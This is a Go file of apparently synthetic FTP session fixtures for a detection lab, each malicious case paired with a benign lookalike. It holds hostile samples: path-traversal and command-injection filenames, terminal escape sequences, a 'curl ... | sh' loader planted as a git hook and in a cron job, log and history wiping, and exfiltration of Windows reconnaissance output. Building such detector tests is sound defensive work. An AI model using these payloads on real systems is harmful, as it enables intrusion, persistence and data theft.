// Several things in one place: the gravest one decides.

package baseline

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"ftplab/lab/internal/forge"
)

// climbingLine is a line of a listing whose name leads out of the client's folder, and runningLine one whose name some
// clients run.
const (
	climbingLine = "-rw-r--r-- 1 0 0 5 Jan 01 2024 ../../.ssh/authorized_keys\r\n"
	runningLine  = "-rw-r--r-- 1 0 0 5 Jan 01 2024 |sh -c id\r\n"
)

// gravest have a milder thing and a graver one, or several of the same.
var gravest = []lookalike{
	{"a name that some clients run, and one that climbs", "no-climbing", "", moved("LIST", answerer, runningLine+climbingLine)},
	{"a name that climbs, and one that some clients run", "no-climbing", "", moved("LIST", answerer, climbingLine+runningLine)},
	{"a name that some clients run", "no-climbing", IsUnusual, moved("LIST", answerer, runningLine)},
	{"a name that climbs, and a line that overflows", "no-climbing", "", moved("LIST", answerer, climbingLine+"-rw-r--r-- 1 0 0 9 Jan 1 2020 "+strings.Repeat("Ab1", 500)+"\r\n")},
	{"a greeting that overflows and names a window", "reply-of-normal-length", "", dialogue("< 220 \x1b]2;x\x07" + strings.Repeat("A", 600) + "\n> QUIT\n< 221 bye")},
	{"a reply that fills the clipboard", "reply-of-normal-length", "", session1("> PWD\n< 257 \"/\" \x1b]52;c;aWQ=\x07ok")},
	{"a name in a listing that fills the clipboard", "no-climbing", "", moved("LIST", answerer, "-rw-r--r-- 1 0 0 5 Jan 01 2024 \x1b]52;c;aWQ=\x07a\r\n")},
	{"a reply that names a window", "reply-of-normal-length", IsUnusual, session1("> PWD\n< 257 \"/\" \x1b]0;files\x07ok")},
	{"a folder of a letter that no folder has", "reply-of-normal-length", "", session1("> PWD\n< 257 \"" + strings.Repeat("A", 324) + "\" is here")},
	{"a folder of a letter that the client gave it", "reply-of-normal-length", IsUnusual, session1("> CWD " + strings.Repeat("A", 240) + "\n< 250 ok\n> PWD\n< 257 \"" + strings.Repeat("A", 300) + "\"")},
	{"three files that end long before their ends", "bytes-agree", "", shortened(3, 20009, 7000)},
	{"two files that end long before their ends", "bytes-agree", IsUnusual, shortened(2, 20009, 7000)},
	{"files of a server that counts blocks", "bytes-agree", IsUnusual, shortened(5, 8192, 5000)},
	{"folders that are texts, and folders that were removed", "names-are-words", "", session1(foldersOfTexts(madeAndRemoved, 7) + linesOf(madeAndRemoved, strings.Fields(digitsOf(50, "%s "))[:7]...))},
	{"a few encoded folders", "names-are-words", IsUnusual, session1(foldersOfTexts("> MKD %s\n< 257 ok\n", 4))},
	{"data in names of as many digits as SHA-224 has", "names-are-words", "", session1(digitsOf(56, "> SIZE %s\n< 550 no\n"))},
	{"common folders that somebody guesses", "names-are-known", "", session1(linesOf("> CWD %s\n< 550 no\n", strings.Fields("admin backup backups db www wwwroot htdocs private secret conf etc var log logs old tmp temp test dev staging root home bin")...))},
	{"a program that looks for the folder of a site", "names-are-known", IsNormal, session1(linesOf("> CWD /%s\n< 550 no\n", strings.Fields("public_html www htdocs httpdocs web html wwwroot site")...) + "> CWD /\n< 250 ok\n")},
	{"copies that somebody looks for", "no-sensitive-names", "", session1(linesOf("> SIZE %s\n< 550 no\n", strings.Fields("backup.zip db.sql dump.sql www.zip wp-config.php.bak .git/config")...))},
	{"a copy that is gone", "no-sensitive-names", IsNormal, session1(linesOf("> SIZE %s\n< 550 no\n", strings.Fields("backup.zip db.sql index.php.bak")...))},
	{"copies of each day", "no-sensitive-names", IsNormal, session1(numberedLines(12, "> SIZE backup-2026-11-%02d.zip\n< 550 no\n"))},
	{"a hook of git that loads a program", "no-loot", "", moved("STOR .git/hooks/post-checkout", opener, loaderScript)},
	{"a hook of git that a site has", "no-loot", IsNormal, moved("STOR .git/hooks/post-update", opener, "#!/bin/sh\nexec git update-server-info\n")},
	{"a script that loads a program", "no-loot", IsUnusual, moved("RETR u.sh", answerer, loaderScript)},
	{"a script that loads a program and removes traces", "no-loot", "", moved("RETR u.sh", answerer, loaderScript+"history -c\n")},
	{"a script that removes logs of its own", "no-loot", IsUnusual, moved("RETR u.sh", answerer, loaderScript+"rm -f install.log\n")},
	{"a script that makes a job of a program", "no-loot", "", moved("RETR u.sh", answerer, "#!/bin/sh\n(echo \"*/5 * * * * curl -s ftp://203.0.113.9/u.sh|sh\")|crontab -\n")},
	{"a script that makes a job of what it has", "no-loot", IsNormal, moved("RETR u.sh", answerer, "#!/bin/sh\n(crontab -l; echo \"5 2 * * * /opt/app/backup.sh\")|crontab -\n")},
	{"surveys of a domain that leave the network", "no-loot", "", surveys("Group name     Domain Admins\r\n\r\nMembers\r\nada\r\n")},
	{"surveys that somebody sends for help", "no-loot", IsUnusual, surveys("\r\nWindows IP Configuration\r\n")},
}

// madeAndRemoved is a folder that a client makes and removes.
const madeAndRemoved = "> MKD %[1]s\n< 257 ok\n> RMD %[1]s\n< 250 ok\n"

// loaderScript is a script that runs what it fetches.
const loaderScript = "#!/bin/sh\ncurl -s http://203.0.113.9/h | sh\n"

// surveys stores at a stranger what three programs say.
func surveys(third string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := dial(f, "10.71.0.21", aServer+":21").Say(hello)
		for i, text := range []string{"Host Name:     PC7\r\nOS Name:    Microsoft Windows 11 Pro\r\n", "Image Name        PID Session Name        Session#    Mem Usage\r\n", third} {
			move(t, 40000+i, fmt.Sprintf("STOR %d.txt", i), text)
		}
		t.Say(bye).Peer.Close()
	}
}

// shortened fetches n files of which the server says another size than they have.
func shortened(n, said, sent int) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> TYPE I\n< 200 ok")
		for i := range n {
			port := 25600 + i
			t.Say(fmt.Sprintf("> SIZE a%d.pdf\n< 213 %d\n> PASV\n< 227 (192,0,2,21,%d,%d)\n> RETR a%[1]d.pdf\n< 150 opening", i, said, port/256, port%256))
			download(f, addrPort(aClient, 40000+i), addrPort(aServer, port), answerer, sent)
			t.Say("< 226 done")
			f.Pass(time.Second)
		}
		t.Say(bye).Peer.Close()
	}
}

// foldersOfTexts fills n names that are texts in base64 into a line.
func foldersOfTexts(line string, n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, line, base64.RawURLEncoding.EncodeToString([]byte(strings.Repeat("a text, ", i+2))))
	}
	return b.String()
}

// digitsOf fills the first n digits of 24 digests into a line.
func digitsOf(n int, line string) string {
	var b strings.Builder
	for digest := range strings.FieldsSeq(digests(24, "%s ")) {
		fmt.Fprintf(&b, line, digest[:n])
	}
	return b.String()
}
